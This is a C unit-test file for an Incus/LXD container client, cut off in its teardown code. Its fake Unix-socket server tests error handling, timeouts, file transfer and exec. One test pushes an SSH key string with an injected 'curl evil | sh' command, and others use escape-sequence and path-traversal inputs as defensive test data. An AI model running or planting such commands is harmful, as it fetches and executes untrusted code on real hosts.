/*
 * test_incus_client.c - the Incus client end to end.
 *
 * Part 1 needs nothing: a missing socket, a socket nobody listens on, and
 * a tiny HTTP/1.1 server on a Unix socket (a thread answering each
 * connection with a canned response) for what a real server will not do on
 * demand: garbage, truncation, a dropped connection, silence, a slow
 * operation; and to see exactly what the client sends.
 *
 * Part 2 drives a real Incus or LXD when CONTAINARIUM_TEST_INCUS_SOCKET is
 * set (project CONTAINARIUM_TEST_INCUS_PROJECT, default containarium-test;
 * image CONTAINARIUM_TEST_INCUS_IMAGE, default ctr-tiny); otherwise those
 * tests are skipped. They create one container named incusdev-test-<pid>
 * and delete it.
 */
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <poll.h>
#include <pthread.h>
#include <stdbool.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "incus/incus.h"

/* ---- a canned HTTP server on a Unix socket ------------------------ */

#define FAKE_MAX_REPLIES 64
#define FAKE_REQUEST_MAX 65536

struct fake_reply {
	char *raw;          /* bytes to send; NULL: send nothing */
	size_t size;
	int hold_ms;        /* before sending, or until the client leaves */
};

struct fake_server {
	char dir[32];
	char path[64];
	int listen_fd;
	int stop[2];         /* a byte on stop[1] ends the thread */
	pthread_t thread;
	bool stopped;
	struct fake_reply replies[FAKE_MAX_REPLIES];
	size_t reply_count;
	size_t repeat_last;  /* extra connections answered with the last reply */
	char *requests[FAKE_MAX_REPLIES + 64];
	size_t request_count;
};

static char *xstrdup_printf(const char *format, ...)
	__attribute__((format(printf, 1, 2)));

static char *xstrdup_printf(const char *format, ...)
{
	va_list ap;
	char *s;

	va_start(ap, format);
	assert_true(vasprintf(&s, format, ap) >= 0);
	va_end(ap);
	return s;
}

/* Adds a raw reply (taken). */
static void fake_add_raw(struct fake_server *f, char *raw, size_t size,
    int hold_ms)
{
	assert_true(f->reply_count < FAKE_MAX_REPLIES);
	f->replies[f->reply_count++] = (struct fake_reply){ raw, size, hold_ms };
}

/* Adds a complete HTTP response with a body. */
static void fake_add(struct fake_server *f, int status, const char *headers,
    const char *body)
{
	char *raw = xstrdup_printf("HTTP/1.1 %d X\r\nContent-Length: %zu\r\n"
	    "Connection: close\r\n%s\r\n%s", status, strlen(body),
	    headers ? headers : "Content-Type: application/json\r\n", body);

	fake_add_raw(f, raw, strlen(raw), 0);
}

static void fake_add_sync(struct fake_server *f, const char *metadata)
{
	char *body = xstrdup_printf("{\"type\":\"sync\",\"status\":\"Success\","
	    "\"status_code\":200,\"operation\":\"\",\"error_code\":0,"
	    "\"error\":\"\",\"metadata\":%s}", metadata);

	fake_add(f, 200, NULL, body);
	free(body);
}

static void fake_add_error(struct fake_server *f, int code, const char *error)
{
	char *body = xstrdup_printf("{\"type\":\"error\",\"status\":\"\","
	    "\"status_code\":0,\"operation\":\"\",\"error_code\":%d,"
	    "\"error\":\"%s\",\"metadata\":null}", code, error);

	fake_add(f, code, NULL, body);
	free(body);
}

static void fake_add_async(struct fake_server *f, const char *id)
{
	char *body = xstrdup_printf("{\"type\":\"async\",\"status\":\"Operation "
	    "created\",\"status_code\":100,\"operation\":\"/1.0/operations/%s\","
	    "\"error_code\":0,\"error\":\"\",\"metadata\":{\"id\":\"%s\","
	    "\"status\":\"Running\",\"status_code\":103,\"err\":\"\"}}", id, id);

	fake_add(f, 202, NULL, body);
	free(body);
}

/* Adds the answer of a wait: the operation with status and err. */
static void fake_add_operation(struct fake_server *f, const char *id,
    int status_code, const char *err, const char *metadata)
{
	char *op = xstrdup_printf("{\"id\":\"%s\",\"status\":\"x\","
	    "\"status_code\":%d,\"err\":\"%s\",\"metadata\":%s}", id,
	    status_code, err, metadata ? metadata : "null");

	fake_add_sync(f, op);
	free(op);
}

/* Reads one request (head and Content-Length body) into a string. */
static char *fake_read_request(int fd)
{
	char *buf = calloc(1, FAKE_REQUEST_MAX + 1), *end, *cl;
	size_t len = 0, want = 0;
	ssize_t n;

	assert_non_null(buf);
	while (len < FAKE_REQUEST_MAX) {
		n = read(fd, buf + len, FAKE_REQUEST_MAX - len);
		if (n <= 0)
			break;
		len += (size_t)n;
		buf[len] = '\0';
		end = strstr(buf, "\r\n\r\n");
		if (!end)
			continue;
		cl = strcasestr(buf, "\r\nContent-Length:");
		want = (size_t)(end + 4 - buf) +
		    (cl && cl < end ? strtoul(cl + 17, NULL, 10) : 0);
		if (len >= want)
			break;
	}
	return buf;
}

/* Waits up to ms for the client to go away (or for nothing). */
static void fake_hold(int fd, int ms)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char c;

	if (ms > 0 && poll(&p, 1, ms) > 0)
		(void)!read(fd, &c, 1);
}

static void fake_serve_one(struct fake_server *f, int fd, size_t index)
{
	const struct fake_reply *reply;

	reply = &f->replies[index < f->reply_count ? index : f->reply_count - 1];
	f->requests[f->request_count++] = fake_read_request(fd);
	fake_hold(fd, reply->hold_ms);
	if (reply->raw)
		(void)!send(fd, reply->raw, reply->size, MSG_NOSIGNAL);
}

static void *fake_thread(void *userdata)
{
	struct fake_server *f = userdata;
	size_t total = f->reply_count + f->repeat_last;

	for (size_t i = 0; i < total; i++) {
		struct pollfd p[2] = {
			{ .fd = f->listen_fd, .events = POLLIN },
			{ .fd = f->stop[0], .events = POLLIN },
		};
		int fd;

		if (poll(p, 2, 10000) <= 0 || p[1].revents)
			break;
		fd = accept4(f->listen_fd, NULL, NULL, SOCK_CLOEXEC);
		if (fd < 0)
			break;
		fake_serve_one(f, fd, i);
		close(fd);
	}
	return NULL;
}

/* Binds a listening socket in a fresh temporary directory. */
static void fake_bind(struct fake_server *f)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };

	snprintf(f->dir, sizeof(f->dir), "/tmp/incus-test.XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	snprintf(f->path, sizeof(f->path), "%s/unix.socket", f->dir);
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", f->path);
	f->listen_fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	assert_true(f->listen_fd >= 0);
	assert_int_equal(bind(f->listen_fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	assert_int_equal(listen(f->listen_fd, 16), 0);
}

static struct fake_server *fake_new(void)
{
	struct fake_server *f = calloc(1, sizeof(*f));

	assert_non_null(f);
	assert_int_equal(pipe2(f->stop, O_CLOEXEC), 0);
	fake_bind(f);
	return f;
}

static void fake_start(struct fake_server *f)
{
	assert_int_equal(pthread_create(&f->thread, NULL, fake_thread, f), 0);
}

/* Ends the thread; f->requests may be read after this. */
static void fake_stop(struct fake_server *f)
{
	if (f->stopped)
		return;
	(void)!write(f->stop[1], "", 1);
	pthread_join(f->thread, NULL);
	f->stopped = true;
}

/* Stops the thread and frees everything. */
static void fake_free(struct fake_server *f)
{
	fake_stop(f);
	close(f->stop[0]);
	close(f->stop[1]);
	close(f->listen_fd);
	unlink(f->path);
	rmdir(f->dir);
	for (size_t i = 0; i < f->reply_count; i++)
		free(f->replies[i].raw);
	for (size_t i = 0; i < f->request_count; i++)
		free(f->requests[i]);
	free(f);
}

static struct incus_client *client_for(const char *socket_path,
    unsigned timeout_sec)
{
	struct incus_client_options options = {
		.socket_path = socket_path,
		.project = "proj-x",
		.timeout_sec = timeout_sec,
	};
	struct incus_client *c = NULL;

	assert_int_equal(incus_client_new(&options, &c), 0);
	return c;
}

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static const char server_lxd[] = "{\"api_version\":\"1.0\",\"environment\":"
    "{\"server\":\"lxd\",\"server_version\":\"5.0.2\"}}";
static const char server_incus[] = "{\"api_version\":\"1.0\",\"environment\":"
    "{\"server\":\"incus\",\"server_version\":\"6.0.3\"}}";

/* ---- part 1: without Incus ----------------------------------------- */

static void test_options(void **state)
{
	struct incus_client_options bad = { .socket_path = "" };
	struct incus_client *c = NULL;
	char long_path[120];

	(void)state;
	assert_int_equal(incus_client_new(&bad, &c), -EINVAL);
	bad = (struct incus_client_options){ .project = "" };
	assert_int_equal(incus_client_new(&bad, &c), -EINVAL);
	bad = (struct incus_client_options){
		.timeout_sec = INCUS_TIMEOUT_MAX_SEC + 1,
	};
	assert_int_equal(incus_client_new(&bad, &c), -EINVAL);
	memset(long_path, 'a', sizeof(long_path) - 1);
	long_path[0] = '/';
	long_path[sizeof(long_path) - 1] = '\0';
	bad = (struct incus_client_options){ .socket_path = long_path };
	assert_int_equal(incus_client_new(&bad, &c), -EINVAL);
	assert_int_equal(incus_client_new(NULL, &c), 0);
	assert_string_equal(incus_client_project(c), "default");
	assert_string_equal(incus_client_error_message(c), "");
	assert_int_equal(incus_client_set_timeout(c, 5), 0);
	assert_int_equal(incus_client_set_timeout(c, INCUS_TIMEOUT_MAX_SEC + 1),
	    -EINVAL);
	incus_client_free(c);
	incus_client_free(NULL);
}

static void test_socket_missing(void **state)
{
	struct incus_server_info info;
	struct incus_instance in;
	struct incus_client *c;
	char dir[] = "/tmp/incus-test.XXXXXX", path[64];

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/nope.socket", dir);
	c = client_for(path, 5);
	assert_int_equal(incus_client_server_info(c, &info), -EHOSTDOWN);
	assert_non_null(strstr(incus_client_error_message(c), "unreachable"));
	/* distinguishable from an instance that does not exist */
	assert_int_equal(incus_instance_get(c, "x", &in), -EHOSTDOWN);
	incus_client_free(c);
	rmdir(dir);
}

static void test_socket_not_listening(void **state)
{
	struct incus_server_info info;
	struct fake_server *f = fake_new();
	struct incus_client *c;

	(void)state;
	close(f->listen_fd); /* the socket file stays; connect is refused */
	f->listen_fd = -1;
	c = client_for(f->path, 5);
	assert_int_equal(incus_client_server_info(c, &info), -EHOSTDOWN);
	incus_client_free(c);
	close(f->stop[0]);
	close(f->stop[1]);
	unlink(f->path);
	rmdir(f->dir);
	free(f);
}

/* Runs GET /1.0 against a server sending only raw, expecting err. */
static void expect_server_info_error(char *raw, size_t size, int err)
{
	struct fake_server *f = fake_new();
	struct incus_server_info info;
	struct incus_client *c;

	fake_add_raw(f, raw, size, 0);
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_client_server_info(c, &info), err);
	assert_string_not_equal(incus_client_error_message(c), "");
	incus_client_free(c);
	fake_free(f);
}

static void test_500_not_json(void **state)
{
	static const char raw[] = "HTTP/1.1 500 Internal Server Error\r\n"
	    "Content-Type: text/html\r\nContent-Length: 21\r\n"
	    "Connection: close\r\n\r\n<html>oops</html>\r\n\r\n";

	(void)state;
	expect_server_info_error(strdup(raw), sizeof(raw) - 1, -EPROTO);
}

static void test_truncated_json(void **state)
{
	static const char raw[] = "HTTP/1.1 200 OK\r\nContent-Type: application/json"
	    "\r\nContent-Length: 30\r\nConnection: close\r\n\r\n"
	    "{\"type\":\"sync\",\"metadata\":{\"en";

	(void)state;
	expect_server_info_error(strdup(raw), sizeof(raw) - 1, -EPROTO);
}

static void test_closed_mid_response(void **state)
{
	static const char raw[] = "HTTP/1.1 200 OK\r\nContent-Type: application/json"
	    "\r\nContent-Length: 1000\r\n\r\n{\"type\":\"sync\",\"metadata\":";

	(void)state;
	expect_server_info_error(strdup(raw), sizeof(raw) - 1, -EHOSTDOWN);
}

static void test_closed_without_answer(void **state)
{
	(void)state;
	expect_server_info_error(NULL, 0, -EHOSTDOWN);
}

static void test_not_http(void **state)
{
	static const char raw[] = "SSH-2.0-OpenSSH_9.2\r\n";

	(void)state;
	expect_server_info_error(strdup(raw), sizeof(raw) - 1, -EPROTO);
}

static void test_response_too_large(void **state)
{
	size_t body = 5u * 1024 * 1024;
	char *raw = malloc(body + 256);
	int n;

	(void)state;
	assert_non_null(raw);
	n = sprintf(raw, "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n", body);
	memset(raw + n, ' ', body);
	expect_server_info_error(raw, (size_t)n + body, -EPROTO);
}

static void test_server_silent_timeout(void **state)
{
	struct fake_server *f = fake_new();
	struct incus_server_info info;
	struct incus_client *c;
	int64_t start;

	(void)state;
	fake_add_raw(f, NULL, 0, 10000); /* holds until the client leaves */
	fake_start(f);
	c = client_for(f->path, 1);
	start = now_ms();
	assert_int_equal(incus_client_server_info(c, &info), -ETIMEDOUT);
	assert_true(now_ms() - start < 2500);
	incus_client_free(c);
	fake_free(f);
}

/*
 * Counts this process's sockets connected to path, failing if one of them
 * would survive an exec.
 */
static int count_cloexec_connections(const char *path)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *e;
	int found = 0;

	assert_non_null(dir);
	while ((e = readdir(dir))) {
		struct sockaddr_un peer = { 0 };
		socklen_t len = sizeof(peer);
		int fd = atoi(e->d_name);
		struct stat st;

		if (e->d_name[0] == '.' || fd == dirfd(dir) || fstat(fd, &st) < 0 ||
		    !S_ISSOCK(st.st_mode) ||
		    getpeername(fd, (struct sockaddr *)&peer, &len) < 0 ||
		    strcmp(peer.sun_path, path) != 0)
			continue;
		assert_true(fcntl(fd, F_GETFD) & FD_CLOEXEC);
		found++;
	}
	closedir(dir);
	return found;
}

static void test_connection_cloexec(void **state)
{
	static const char raw[] = "HTTP/1.1 200 OK\r\nContent-Length: 59\r\n\r\n"
	    "{\"type\":\"sync\",\"metadata\":{\"environment\":{\"server\":\"lxd\"}}}";
	struct fake_server *f = fake_new();
	struct incus_server_info info;
	struct incus_client *c;

	(void)state;
	fake_add_raw(f, strdup(raw), sizeof(raw) - 1, 0);
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_client_server_info(c, &info), 0);
	incus_client_server_info_free(&info);
	/* kept alive by libcurl after the call: must be close-on-exec */
	assert_int_equal(count_cloexec_connections(f->path), 1);
	incus_client_free(c);
	assert_int_equal(count_cloexec_connections(f->path), 0);
	fake_free(f);
}

static void test_error_statuses(void **state)
{
	static const struct {
		int code;
		const char *text;
		int err;
	} cases[] = {
		{ 404, "Instance not found", -ENOENT },
		{ 409, "Instance already exists", -EEXIST },
		{ 400, "Instance is running", -EBUSY },
		{ 400, "Invalid instance name", -EINVAL },
		{ 403, "not authorized", -EACCES },
		{ 500, "Storage pool not found", -ENOENT },
		{ 500, "database is locked", -EIO },
		{ 503, "shutting down", -EHOSTDOWN },
	};
	struct incus_instance in;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct fake_server *f = fake_new();
		struct incus_client *c;

		fake_add_error(f, cases[i].code, cases[i].text);
		fake_start(f);
		c = client_for(f->path, 5);
		assert_int_equal(incus_instance_get(c, "x", &in), cases[i].err);
		assert_string_equal(incus_client_error_message(c), cases[i].text);
		incus_client_free(c);
		fake_free(f);
	}
}

static void test_error_message_sanitized(void **state)
{
	struct fake_server *f = fake_new();
	struct incus_client *c;
	struct incus_instance in;

	(void)state;
	fake_add_error(f, 404, "bad\\u001b[31m\\nname");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_instance_get(c, "x", &in), -ENOENT);
	assert_string_equal(incus_client_error_message(c), "bad?[31m?name");
	incus_client_free(c);
	fake_free(f);
}

static void test_error_message_truncated(void **state)
{
	struct fake_server *f = fake_new();
	struct incus_client *c;
	struct incus_instance in;
	char text[1201];
	const char *m;

	(void)state;
	for (size_t i = 0; i < 600; i++)
		memcpy(text + 2 * i, "\xc3\xa9", 2); /* U+00E9, 2 bytes */
	text[1200] = '\0';
	fake_add_error(f, 404, text);
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_instance_get(c, "x", &in), -ENOENT);
	m = incus_client_error_message(c);
	assert_int_equal(strlen(m), INCUS_ERROR_MESSAGE_MAX - 2);
	assert_memory_equal(m, text, strlen(m)); /* cut between characters */
	incus_client_free(c);
	fake_free(f);
}

static void test_request_shape(void **state)
{
	struct fake_server *f = fake_new();
	struct incus_client *c;
	struct incus_instance in;
	char *running;

	(void)state;
	running = xstrdup_printf("{\"name\":\"a b\",\"status\":\"Running\","
	    "\"status_code\":103}");
	fake_add_sync(f, running);  /* no state in recursion=1: ask .../state */
	fake_add_sync(f, "{\"status\":\"Running\",\"status_code\":103,"
	    "\"pid\":42}");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_instance_get(c, "a b", &in), 0);
	assert_true(in.has_state);
	assert_int_equal(in.state.pid, 42);
	incus_instance_free(&in);
	incus_client_free(c);
	fake_stop(f);
	assert_int_equal(f->request_count, 2);
	assert_non_null(strstr(f->requests[0], "GET /1.0/instances/a%20b"
	    "?recursion=1&project=proj-x HTTP/1.1\r\n"));
	assert_non_null(strstr(f->requests[1], "GET /1.0/instances/a%20b/state"
	    "?project=proj-x HTTP/1.1\r\n"));
	free(running);
	fake_free(f);
}

static void test_create_body(void **state)
{
	static const struct incus_key_value config[] = {
		{ "user.containarium.owner", "alice" },
		{ "limits.cpu", "2" },
	};
	const struct incus_instance_spec spec = {
		.name = "alice-container",
		.image_alias = "debian/12",
		.image_server = "https://images.example/",
		.config = config,
		.config_count = 2,
		.root_pool = "default",
		.root_size = "10GiB",
	};
	struct fake_server *f = fake_new();
	struct incus_client *c;
	const char *body;

	(void)state;
	fake_add_async(f, "op1");
	fake_add_operation(f, "op1", 200, "", NULL);
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_instance_create(c, &spec), 0);
	incus_client_free(c);
	fake_stop(f);
	assert_int_equal(f->request_count, 2);
	assert_non_null(strstr(f->requests[0], "POST /1.0/instances?project="
	    "proj-x HTTP/1.1\r\n"));
	assert_non_null(strcasestr(f->requests[0],
	    "\r\nContent-Type: application/json\r\n"));
	body = strstr(f->requests[0], "\r\n\r\n") + 4;
	assert_string_equal(body, "{\"name\":\"alice-container\",\"type\":"
	    "\"container\",\"source\":{\"type\":\"image\",\"alias\":\"debian/12\","
	    "\"server\":\"https://images.example/\",\"protocol\":"
	    "\"simplestreams\"},\"config\":{\"user.containarium.owner\":"
	    "\"alice\",\"limits.cpu\":\"2\"},\"devices\":{\"root\":{\"type\":"
	    "\"disk\",\"path\":\"/\",\"pool\":\"default\",\"size\":\"10GiB\"}}}");
	assert_non_null(strstr(f->requests[1], "GET /1.0/operations/op1/wait"
	    "?timeout="));
	assert_non_null(strstr(f->requests[1], "&project=proj-x HTTP/1.1"));
	fake_free(f);
}

static void test_create_invalid(void **state)
{
	struct incus_instance_spec spec = { .name = "x" };
	struct incus_key_value config[] = { { "k", NULL } };
	struct incus_client *c = client_for("/nonexistent/socket", 5);

	(void)state;
	assert_int_equal(incus_instance_create(c, NULL), -EINVAL);
	assert_int_equal(incus_instance_create(c, &spec), -EINVAL);
	spec.image_alias = "a";
	spec.root_size = "1GiB";
	assert_int_equal(incus_instance_create(c, &spec), -EINVAL);
	spec.root_size = NULL;
	spec.config = config;
	spec.config_count = 1;
	assert_int_equal(incus_instance_create(c, &spec), -EINVAL);
	config[0].value = "\xff\xfe not UTF-8";
	assert_int_equal(incus_instance_create(c, &spec), -EINVAL);
	spec.config_count = 0;
	spec.image_alias = "\xc0\xaf";
	assert_int_equal(incus_instance_create(c, &spec), -EINVAL);
	spec.image_alias = "a";
	spec.name = "";
	assert_int_equal(incus_instance_create(c, &spec), -EINVAL);
	incus_client_free(c);
}

static void test_operation_failure(void **state)
{
	const struct incus_instance_spec spec = { .name = "a",
		.image_alias = "i" };
	struct fake_server *f = fake_new();
	struct incus_client *c;

	(void)state;
	fake_add_async(f, "op2");
	fake_add_operation(f, "op2", 400, "Failed creating instance record: "
	    "This \\\"instances\\\" entry already exists", NULL);
	fake_add_async(f, "op3");
	fake_add_operation(f, "op3", 400, "The instance is already running",
	    NULL);
	fake_add_async(f, "op4");
	fake_add_operation(f, "op4", 401, "", NULL);
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_instance_create(c, &spec), -EEXIST);
	assert_non_null(strstr(incus_client_error_message(c), "already exists"));
	assert_int_equal(incus_instance_set_state(c, "a", INCUS_STATE_START, -1,
	    false), -EBUSY);
	assert_string_equal(incus_client_error_message(c),
	    "The instance is already running");
	assert_int_equal(incus_instance_delete(c, "a"), -ECANCELED);
	incus_client_free(c);
	fake_free(f);
}

static void test_operation_deadline(void **state)
{
	struct fake_server *f = fake_new();
	struct incus_client *c;
	int64_t start;

	(void)state;
	fake_add_async(f, "slow");
	fake_add_operation(f, "slow", 103, "", NULL);
	f->repeat_last = 40;
	fake_start(f);
	c = client_for(f->path, 2);
	start = now_ms();
	assert_int_equal(incus_instance_delete(c, "a"), -ETIMEDOUT);
	assert_true(now_ms() - start >= 1900);
	assert_true(now_ms() - start < 3500);
	assert_non_null(strstr(incus_client_error_message(c), "still running"));
	incus_client_free(c);
	fake_stop(f);
	/* near the deadline the client asks Incus not to wait at all */
	assert_non_null(strstr(f->requests[f->request_count - 1],
	    "/wait?timeout=0&"));
	fake_free(f);
}

static void test_bad_operation_path(void **state)
{
	struct fake_server *f = fake_new();
	struct incus_client *c;

	(void)state;
	fake_add_async(f, "../../1.0/instances/x");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_instance_delete(c, "a"), -EPROTO);
	incus_client_free(c);
	fake_free(f);
}

static void test_file_push_incus_headers(void **state)
{
	static const char key[] = "ssh-ed25519 AAAA x'; curl evil | sh\n";
	const struct incus_file_spec spec = {
		.path = "/home/alice/.ssh/authorized_keys",
		.type = INCUS_FILE_REGULAR,
		.uid = 1000, .gid = 1001, .mode = 0600,
		.data = key, .size = sizeof(key) - 1,
	};
	struct fake_server *f = fake_new();
	struct incus_client *c;
	const char *req;

	(void)state;
	fake_add_sync(f, server_incus);
	fake_add_sync(f, "{}");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_file_push(c, "alice-container", &spec), 0);
	incus_client_free(c);
	fake_stop(f);
	req = f->requests[1];
	assert_non_null(strstr(req, "POST /1.0/instances/alice-container/files"
	    "?path=%2Fhome%2Falice%2F.ssh%2Fauthorized_keys&project=proj-x "));
	assert_non_null(strstr(req, "\r\nX-Incus-uid: 1000\r\n"));
	assert_non_null(strstr(req, "\r\nX-Incus-gid: 1001\r\n"));
	assert_non_null(strstr(req, "\r\nX-Incus-mode: 0600\r\n"));
	assert_non_null(strstr(req, "\r\nX-Incus-type: file\r\n"));
	assert_non_null(strstr(req, "\r\nX-Incus-write: overwrite\r\n"));
	assert_non_null(strstr(req, "\r\nContent-Type: application/octet-stream"));
	assert_null(strstr(req, "X-LXD-"));
	assert_string_equal(strstr(req, "\r\n\r\n") + 4, key);
	fake_free(f);
}

static void test_file_get_headers(void **state)
{
	char long_header[INCUS_ERROR_MESSAGE_MAX];
	struct fake_server *f = fake_new();
	struct incus_client *c;
	struct incus_file file;

	(void)state;
	snprintf(long_header, sizeof(long_header), "X-Lxd-Type: file\r\n"
	    "X-Lxd-Owner: %0300d\r\n", 0); /* a kept header over bounds */
	fake_add_sync(f, server_lxd);
	fake_add(f, 200, "X-Lxd-Type: file\r\nX-Lxd-Uid: 1000\r\n"
	    "X-Lxd-Gid: 100\r\nX-Lxd-Mode: 0640\r\n", "hello");
	fake_add(f, 200, "X-Lxd-Type: file\r\nX-Lxd-Mode: 0640\r\n", "0123456789");
	fake_add(f, 200, "X-Lxd-Type: socket\r\n", "x");
	fake_add(f, 200, "X-Lxd-Mode: 0640\r\n", "no type");
	fake_add(f, 200, long_header, "x");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_file_get(c, "a", "/etc/x", 0, &file), 0);
	assert_int_equal(file.type, INCUS_FILE_REGULAR);
	assert_int_equal(file.uid, 1000);
	assert_int_equal(file.gid, 100);
	assert_int_equal(file.mode, 0640);
	assert_int_equal(file.size, 5);
	assert_string_equal(file.data, "hello");
	incus_file_free(&file);
	assert_int_equal(incus_file_get(c, "a", "/etc/big", 9, &file), -EFBIG);
	assert_int_equal(incus_file_get(c, "a", "/dev/x", 0, &file), -EPROTO);
	assert_int_equal(incus_file_get(c, "a", "/notype", 0, &file), -EPROTO);
	assert_int_equal(incus_file_get(c, "a", "/long", 0, &file), -EPROTO);
	assert_int_equal(incus_file_get(c, "a", "relative", 0, &file), -EINVAL);
	incus_client_free(c);
	fake_free(f);
}

static void test_exec_flow(void **state)
{
	static const char *const argv[] = { "sh", "-c", "echo hi; exit 3", NULL };
	static const char *const env[] = { "FOO=bar", NULL };
	const struct incus_exec_spec spec = { .argv = argv, .environment = env };
	struct fake_server *f = fake_new();
	struct incus_exec_result result;
	struct incus_client *c;
	const char *body;

	(void)state;
	fake_add_async(f, "ex1");
	fake_add_operation(f, "ex1", 200, "", "{\"return\":3,\"output\":{"
	    "\"1\":\"/1.0/instances/a/logs/exec_ex1.stdout\","
	    "\"2\":\"/1.0/instances/a/logs/exec-output/exec_ex1.stderr\"}}");
	fake_add(f, 200, "Content-Type: application/octet-stream\r\n", "hi\n");
	fake_add_sync(f, "{}");
	fake_add(f, 200, "Content-Type: application/octet-stream\r\n", "");
	fake_add_sync(f, "{}");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_exec(c, "a", &spec, &result), 0);
	assert_int_equal(result.exit_status, 3);
	assert_int_equal(result.stdout_size, 3);
	assert_string_equal(result.stdout_data, "hi\n");
	assert_false(result.stdout_truncated);
	assert_int_equal(result.stderr_size, 0);
	assert_string_equal(result.stderr_data, "");
	incus_exec_result_free(&result);
	incus_client_free(c);
	fake_stop(f);
	body = strstr(f->requests[0], "\r\n\r\n") + 4;
	assert_string_equal(body, "{\"command\":[\"sh\",\"-c\",\"echo hi; exit 3\"],"
	    "\"environment\":{\"FOO\":\"bar\"},\"record-output\":true,"
	    "\"interactive\":false,\"wait-for-websocket\":false}");
	assert_non_null(strstr(f->requests[2], "GET /1.0/instances/a/logs/"
	    "exec_ex1.stdout?project=proj-x "));
	assert_non_null(strstr(f->requests[3], "DELETE /1.0/instances/a/logs/"
	    "exec_ex1.stdout?project=proj-x "));
	assert_non_null(strstr(f->requests[4], "GET /1.0/instances/a/logs/"
	    "exec-output/exec_ex1.stderr?project=proj-x "));
	fake_free(f);
}

static void test_exec_output_bounded(void **state)
{
	static const char *const argv[] = { "yes", NULL };
	const struct incus_exec_spec spec = { .argv = argv, .output_max = 4 };
	struct fake_server *f = fake_new();
	struct incus_exec_result result;
	struct incus_client *c;

	(void)state;
	fake_add_async(f, "ex2");
	fake_add_operation(f, "ex2", 200, "", "{\"return\":0,\"output\":{"
	    "\"1\":\"/1.0/instances/a/logs/exec_ex2.stdout\"}}");
	fake_add(f, 200, "", "y\ny\ny\ny\n");
	fake_add_sync(f, "{}");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_exec(c, "a", &spec, &result), 0);
	assert_int_equal(result.stdout_size, 4);
	assert_memory_equal(result.stdout_data, "y\ny\n", 4);
	assert_true(result.stdout_truncated);
	assert_int_equal(result.stderr_size, 0);
	incus_exec_result_free(&result);
	incus_client_free(c);
	fake_free(f);
}

static void test_exec_foreign_output_path(void **state)
{
	static const char *const argv[] = { "true", NULL };
	const struct incus_exec_spec spec = { .argv = argv };
	struct fake_server *f = fake_new();
	struct incus_exec_result result;
	struct incus_client *c;

	(void)state;
	fake_add_async(f, "ex3");
	fake_add_operation(f, "ex3", 200, "", "{\"return\":0,\"output\":{"
	    "\"1\":\"/1.0/instances/other/logs/exec_ex3.stdout\"}}");
	fake_start(f);
	c = client_for(f->path, 5);
	assert_int_equal(incus_exec(c, "a", &spec, &result), -EPROTO);
	incus_client_free(c);
	fake_free(f);
}

static void test_exec_invalid(void **state)
{
	static const char *const empty[] = { NULL };
	static const char *const blank[] = { "", NULL };
	static const char *const argv[] = { "true", NULL };
	static const char *const bad_env[] = { "NOEQUALS", NULL };
	static const char *const bad_env2[] = { "=x", NULL };
	static const char *const bad_utf8[] = { "echo", "\xed\xa0\x80", NULL };
	struct incus_exec_spec spec = { .argv = empty };
	struct incus_client *c = client_for("/nonexistent/socket", 5);
	struct incus_exec_result result;

	(void)state;
	assert_int_equal(incus_exec(c, "a", NULL, &result), -EINVAL);
	assert_int_equal(incus_exec(c, "a", &spec, &result), -EINVAL);
	spec.argv = blank;
	assert_int_equal(incus_exec(c, "a", &spec, &result), -EINVAL);
	spec.argv = argv;
	spec.environment = bad_env;
	assert_int_equal(incus_exec(c, "a", &spec, &result), -EINVAL);
	spec.environment = bad_env2;
	assert_int_equal(incus_exec(c, "a", &spec, &result), -EINVAL);
	spec.environment = NULL;
	spec.argv = bad_utf8;
	assert_int_equal(incus_exec(c, "a", &spec, &result), -EINVAL);
	incus_client_free(c);
}

/* ---- part 2: a real Incus or LXD ------------------------------------ */

struct real {
	struct incus_client *c;
	char name[64];
	const char *image;
};

static struct real real;

static int real_setup(void **state)
{
	const char *socket_path = getenv("CONTAINARIUM_TEST_INCUS_SOCKET");
	const char *project = getenv("CONTAINARIUM_TEST_INCUS_PROJECT");
	struct incus_client_options options = { .timeout_sec = 60 };

	(void)state;
	if (!socket_path || socket_path[0] == '\0')
		return 0;
	options.socket_path = socket_path;
	options.project = project ? project : "containarium-test";
	real.image = getenv("CONTAINARIUM_TEST_INCUS_IMAGE");
	if (!real.image)
		real.image = "ctr-tiny";
	snprintf(real.name, sizeof(real.name), "incusdev-test-%ld",
	    (long)getpid());
	return incus_client_new(&options, &real.c) < 0 ? -1 : 0;
}

/* Removes the test container whatever state it is in. */
static int real_teardown(void **state)
{
	(void)state;
	if (!real.c)
		return 0;
	(void)incus_instance_set_state(real.c, real.name, INCUS_STATE_STOP, 0,
